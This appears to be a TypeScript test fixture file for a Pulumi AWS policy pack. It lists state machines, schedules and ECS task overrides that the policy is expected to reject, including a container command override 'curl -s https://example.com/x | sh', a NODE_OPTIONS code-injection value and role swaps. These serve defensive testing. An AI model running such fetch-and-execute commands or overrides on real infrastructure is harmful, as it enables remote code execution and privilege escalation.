import { EventTarget } from "@pulumi/aws/cloudwatch/eventTarget";
import { ARNS, account, machine, names, oneTask, ownTask, region, schedule } from "./pipeline-parts";
import type { PolicyProgram } from "./program";

type Properties = Readonly<Record<string, unknown>>;

const RUN = "arn:aws:states:::ecs:runTask.sync";
const DESCRIBE = "arn:aws:states:::aws-sdk:ecs:describeTaskDefinition";
const DESCRIBED = "{% $states.result.TaskDefinition.TaskDefinitionArn %}";
const SHELL = ["sh", "-c", "curl -s https://example.com/x | sh"];
const onlyTargets = ["no-build-targets"];

/** A program of one state machine that makes one call. */
const calls = (
  name: string,
  breaks: readonly string[],
  resource: string,
  args: Properties = {},
): PolicyProgram => ({
  name,
  breaks,
  register: (own, options) => machine(own, options, oneTask(`arn:aws:states:::${resource}`, args)),
});

/** A program of one state machine that runs the pipeline's own task in its own way. */
const runs = (name: string, breaks: readonly string[], changes: Properties): PolicyProgram =>
  calls(name, breaks, "ecs:runTask.sync", { Cluster: ARNS.cluster, TaskDefinition: ownTask, ...changes });

const overrides = (...containers: readonly Properties[]) => ({
  Overrides: { ContainerOverrides: containers },
});
const variable = (Name: string, Value: string) => ({ Name: "main", Environment: [{ Name, Value }] });

/** A program of a state machine in which a first state finds the task that the second one runs. */
const finds = (
  name: string,
  breaks: readonly string[],
  first: Properties,
  task = "{% $task %}",
): PolicyProgram => ({
  name,
  breaks,
  register: (own, options) =>
    machine(own, options, {
      QueryLanguage: "JSONata",
      StartAt: "Find",
      States: {
        Find: { ...first, Next: "Run" },
        Run: {
          Type: "Task",
          Resource: RUN,
          Arguments: { Cluster: ARNS.cluster, TaskDefinition: task },
          End: true,
        },
      },
    }),
});

const describe = (changes: Properties = {}) => ({
  Type: "Task",
  Resource: DESCRIBE,
  Arguments: { TaskDefinition: names.taskFamily },
  Assign: { task: DESCRIBED },
  ...changes,
});
const branch = (state: Properties) => ({ StartAt: "Inner", States: { Inner: { ...state, End: true } } });

/** Calls that the pipeline does not make, and runs of its own task as something else. */
export const callPrograms: readonly PolicyProgram[] = [
  calls("state-machine-starting-a-machine", onlyTargets, "aws-sdk:ec2:runInstances", { ImageId: "ami-1" }),
  calls("state-machine-starting-scripts", onlyTargets, "aws-sdk:ssm:createAssociation", {
    Name: "AWS-RunShellScript",
  }),
  calls("state-machine-entering-a-task", onlyTargets, "aws-sdk:ecs:executeCommand", { Command: "sh" }),
  calls("state-machine-running-glue", onlyTargets, "glue:startJobRun.sync", { JobName: "nightly" }),
  calls("state-machine-running-spark", onlyTargets, "emr-serverless:startJobRun.sync", {
    ApplicationId: "a",
  }),
  calls("state-machine-running-hadoop", onlyTargets, "aws-sdk:emr:runJobFlow", { Name: "nightly" }),
  calls("state-machine-running-pods", onlyTargets, "eks:runJob.sync", { ClusterName: "jobs" }),
  calls("state-machine-running-a-batch", onlyTargets, "batch:submitJob.sync", { JobName: "nightly" }),
  calls("state-machine-calling-an-api", onlyTargets, "apigateway:invoke", { Method: "POST", Stage: "prod" }),
  calls("state-machine-calling-a-function", onlyTargets, "lambda:invoke", { FunctionName: "build" }),
  calls("state-machine-changing-a-function", onlyTargets, "aws-sdk:lambda:updateFunctionConfiguration", {
    FunctionName: "build",
  }),
  calls(
    "state-machine-deploying-to-lightsail",
    onlyTargets,
    "aws-sdk:lightsail:createContainerServiceDeployment",
  ),
  calls("state-machine-making-a-model", onlyTargets, "sagemaker:createModel", { ModelName: "x" }),
  calls("state-machine-running-a-notebook", onlyTargets, "aws-sdk:athena:startCalculationExecution"),
  calls("state-machine-opening-a-repository", onlyTargets, "aws-sdk:ecr:deleteRepositoryPolicy", {
    RepositoryName: names.taskFamily,
  }),
  calls("state-machine-reading-images", onlyTargets, "aws-sdk:ecr:describeImages"),
  calls("state-machine-telling-people-otherwise", [], "sns:publish", {
    TopicArn: ARNS.topic,
    Message: "Done",
  }),
  {
    name: "state-machine-with-another-role",
    breaks: onlyTargets,
    register: (name, options) =>
      machine(name, options, {
        StartAt: "Only",
        States: {
          Only: {
            Type: "Task",
            Resource: "arn:aws:states:::sns:publish",
            Parameters: { TopicArn: ARNS.topic, Message: "Done" },
            Credentials: { RoleArn: ARNS.promotionRole },
            End: true,
          },
        },
      }),
  },
  {
    name: "state-machine-with-two-resources-in-one-state",
    breaks: onlyTargets,
    register: (name, options) =>
      machine(
        name,
        options,
        `{"StartAt":"A","States":{"A":{"Type":"Task","Resource":"arn:aws:states:::codebuild:startBuild","Resource":"arn:aws:states:::sns:publish","End":true}}}`,
      ),
  },
  runs("task-with-another-command", onlyTargets, overrides({ Name: "main", Command: SHELL })),
  runs("task-with-another-role", onlyTargets, { Overrides: { TaskRoleArn: ARNS.promotionRole } }),
  runs(
    "task-with-another-variable",
    onlyTargets,
    overrides(variable("NODE_OPTIONS", "--import=data:text/javascript,")),
  ),
  runs("task-with-a-variable-file", onlyTargets, overrides({ Name: "main", EnvironmentFiles: [] })),
  runs("task-with-overrides-of-its-run", onlyTargets, { Overrides: "{% $states.input.overrides %}" }),
  runs("task-that-can-be-entered", onlyTargets, { EnableExecuteCommand: true }),
  runs("task-with-a-volume-of-its-run", onlyTargets, { VolumeConfigurations: [{ Name: "code" }] }),
  runs("state-machine-of-own-task", [], {
    EnableExecuteCommand: false,
    ...overrides(variable("RUN_ID", "{% $states.context.Execution.Name %}")),
  }),
  finds(
    "task-of-an-output-beside-its-decoy",
    onlyTargets,
    {
      Type: "Pass",
      Assign: { task: ownTask },
      Output: { task: "builder:1" },
    },
    "{% $states.input.task %}",
  ),
  finds("task-of-a-branch-that-looks-like-ecs", onlyTargets, {
    Type: "Parallel",
    Branches: [
      branch(describe({ Assign: {} })),
      branch({ Type: "Pass", Output: { TaskDefinition: { TaskDefinitionArn: "builder:1" } } }),
    ],
    Assign: { task: DESCRIBED },
  }),
  finds("task-that-somebody-reports", onlyTargets, describe({ Resource: `${DESCRIBE}.waitForTaskToken` })),
  finds("task-of-another-family", onlyTargets, describe({ Arguments: { TaskDefinition: "builder" } })),
  finds("task-that-ecs-describes", [], describe()),
  {
    name: "schedule-of-a-machine",
    breaks: onlyTargets,
    register: (name, options) =>
      schedule(name, options, {
        arn: "arn:aws:scheduler:::aws-sdk:ec2:runInstances",
        input: JSON.stringify({ ImageId: "ami-1", UserData: "IyEvYmluL3NoCg==" }),
      }),
  },
  {
    name: "schedule-of-a-function",
    breaks: onlyTargets,
    register: (name, options) =>
      schedule(name, options, { arn: `arn:aws:lambda:${region}:${account}:function:build` }),
  },
  {
    name: "schedule-of-a-message",
    breaks: onlyTargets,
    register: (name, options) => schedule(name, options, { arn: ARNS.topic, input: "{}" }),
  },
  {
    name: "schedule-with-another-command",
    breaks: onlyTargets,
    register: (name, options) =>
      schedule(name, options, {
        arn: "arn:aws:scheduler:::aws-sdk:ecs:runTask",
        input: JSON.stringify({ TaskDefinition: ownTask, ...overrides({ Name: "main", Command: SHELL }) }),
      }),
  },
  {
    name: "schedule-with-variables-of-a-run",
    breaks: [],
    register: (name, options) =>
      schedule(name, options, {
        arn: ARNS.cluster,
        ecsParameters: { taskDefinitionArn: ownTask },
        input: JSON.stringify({
          containerOverrides: [{ name: "main", environment: [{ name: "INPUT_KEY", value: "raw/x.csv" }] }],
        }),
      }),
  },
  {
    name: "event-target-of-own-machine",
    breaks: ["allowed-resource-types"],
    register: (name, options) =>
      new EventTarget(
        name,
        {
          rule: "uploads",
          arn: ARNS.stateMachine,
          roleArn: ARNS.scheduleRole,
          retryPolicy: { maximumRetryAttempts: 3 },
          deadLetterConfig: { arn: ARNS.deadLetterQueue },
        },
        options,
      ),
  },
];
